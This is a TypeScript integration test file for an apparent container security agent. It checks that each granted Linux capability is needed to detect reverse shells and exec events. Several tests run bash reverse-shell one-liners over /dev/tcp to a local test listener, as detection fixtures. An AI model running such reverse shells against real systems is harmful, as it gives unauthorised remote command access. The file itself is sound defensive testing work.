import { spawn } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { afterAll, afterEach, describe, expect, it } from 'vitest';
import { integrationUnavailable } from './docker-env.js';
import { startAgent, type AgentHandle, type JsonAlert } from './harness/agent.js';
import { listen, type Listener } from './harness/listener.js';
import { bridgeGateway, removeAllPods, runPod } from './harness/pods.js';

/**
 * The evidence behind the DaemonSet's capability set (README, Capabilities):
 * the agent runs as root with exactly the granted capabilities, then with
 * each one taken away (setpriv --bounding-set: root's capabilities after
 * exec are its bounding set), and the feature that capability serves breaks.
 * Then as uid 65534 with the three as ambient capabilities.
 */
const TOOLS = 'vigil-test/tools:latest';
const GRANTED = ['net_admin', 'sys_ptrace', 'dac_read_search'] as const;
const unavailable = integrationUnavailable();

const asRootWith = (caps: readonly string[]) => ['setpriv', '--bounding-set', ['-all', ...caps.map((c) => `+${c}`)].join(','), '--'];
const asNobodyWith = (caps: readonly string[]) => {
  const set = ['-all', ...caps.map((c) => `+${c}`)].join(',');
  return ['setpriv', '--reuid', '65534', '--regid', '65534', '--clear-groups', '--inh-caps', set, '--ambient-caps', set, '--bounding-set', set, '--'];
};

async function execMode(agent: AgentHandle): Promise<string | undefined> {
  return /vigil_exec_source_info\{mode="(\w+)"\} 1\b/.exec(await agent.metrics())?.[1];
}

describe.skipIf(unavailable)('capabilities: each granted one is needed', () => {
  let agent: AgentHandle | undefined;
  const listeners: Listener[] = [];
  afterEach(async () => {
    removeAllPods();
    for (const l of listeners.splice(0)) await l.close();
    await agent?.stop();
    agent = undefined;
  });
  afterAll(() => removeAllPods());

  /** A reverse shell in a kubelet-layout pod, as uid 65534 or root: the agent's alert for it, if any. */
  async function reverseShellAlert(a: AgentHandle, name: string, user = '65534:65534'): Promise<JsonAlert | undefined> {
    const gateway = bridgeGateway();
    const listener = await listen(gateway);
    listeners.push(listener);
    const pod = runPod({
      namespace: 'caps',
      pod: name,
      container: 'app',
      image: TOOLS,
      extraArgs: ['--user', user],
      command: ['bash', '-c', `bash -i >& /dev/tcp/${gateway}/${listener.port} 0>&1`],
    });
    await listener.waitForConnection(15_000);
    try {
      return await a.waitForAlert((x) => x.rule === 'Reverse Shell' && x.output_fields['container.id'] === pod.id.slice(0, 12), 8_000);
    } catch {
      return undefined;
    }
  }

  /** The capability's loss is the only reason: the same agent still sees a root shell. */
  async function seesOnlyRootShell(a: AgentHandle, name: string): Promise<void> {
    expect(await reverseShellAlert(a, `${name}-nobody`)).toBeUndefined();
    expect(await reverseShellAlert(a, `${name}-root`, '0:0')).toBeDefined();
  }

  it('with NET_ADMIN, SYS_PTRACE and DAC_READ_SEARCH: netlink exec events and a non-root reverse shell alert', async () => {
    agent = await startAgent(['--scan-interval-ms', '1000'], {}, { prefix: asRootWith(GRANTED) });
    expect(await execMode(agent)).toBe('netlink');
    expect(await reverseShellAlert(agent, 'all-three')).toMatchObject({ priority: 'Critical', output_fields: { 'k8s.pod.name': 'all-three' } });
  });

  it('without NET_ADMIN: the netlink proc connector is refused, exec events fall back to /proc polling', async () => {
    agent = await startAgent(['--scan-interval-ms', '1000'], {}, { prefix: asRootWith(['sys_ptrace', 'dac_read_search']) });
    expect(await execMode(agent)).toBe('poll');
  });

  it('without SYS_PTRACE: reverse shells in containers go unseen, root or not (their /proc/<pid>/fd is closed to a tracer with fewer capabilities)', async () => {
    agent = await startAgent(['--scan-interval-ms', '1000'], {}, { prefix: asRootWith(['net_admin', 'dac_read_search']) });
    expect(await reverseShellAlert(agent, 'no-ptrace-nobody')).toBeUndefined();
    expect(await reverseShellAlert(agent, 'no-ptrace-root', '0:0')).toBeUndefined();
    // Still working where ptrace rules allow: a host root shell without capabilities.
    const listener = await listen('127.0.0.1');
    listeners.push(listener);
    const shell = spawn('setpriv', ['--bounding-set', '-all', '--', 'bash', '-c', `exec bash -i >& /dev/tcp/127.0.0.1/${listener.port} 0>&1`], { stdio: 'ignore' });
    try {
      await listener.waitForConnection(15_000);
      await agent.waitForAlert((x) => x.rule === 'Reverse Shell' && x.output_fields['fd.rport'] === listener.port, 8_000);
    } finally {
      shell.kill('SIGKILL');
    }
  });

  it('without DAC_READ_SEARCH: a reverse shell of another user goes unseen (its 0500 fd directory is closed to root)', async () => {
    agent = await startAgent(['--scan-interval-ms', '1000'], {}, { prefix: asRootWith(['net_admin', 'sys_ptrace']) });
    await seesOnlyRootShell(agent, 'no-dac');
  });

  it('outside the host PID namespace (why hostPID): the proc connector answers no one, exec events fall back to polling', async () => {
    // The host's /proc stays visible (as the hostPath mount would keep it); only the PID namespace differs.
    agent = await startAgent(['--scan-interval-ms', '1000'], {}, { prefix: ['unshare', '--pid', '--fork', '--', ...asRootWith(GRANTED)] });
    try {
      expect(await execMode(agent)).toBe('poll');
    } finally {
      // unshare's parent ignores SIGTERM and waits: stop the agent (its child) directly.
      const pid = agent.pid!;
      for (const child of readFileSync(`/proc/${pid}/task/${pid}/children`, 'utf8').trim().split(/\s+/).filter(Boolean)) {
        process.kill(Number(child), 'SIGTERM');
      }
    }
  });

  it('as uid 65534 with the three as ambient capabilities: netlink and the non-root reverse shell alert', async () => {
    // The Docker socket (root:docker 0660) needs write access, which
    // DAC_READ_SEARCH does not give, and a runtime socket that refuses the
    // agent makes it not ready (containers would go unnamed). So, as a
    // DaemonSet running as nobody would be, it is given none: it still
    // detects, and alerts carry the container id from the cgroup.
    agent = await startAgent(['--scan-interval-ms', '1000', '--docker-socket', 'none'], {}, { prefix: asNobodyWith(GRANTED) });
    expect(await execMode(agent)).toBe('netlink');
    const alert = await reverseShellAlert(agent, 'as-nobody');
    expect(alert?.priority).toBe('Critical');
  });
});
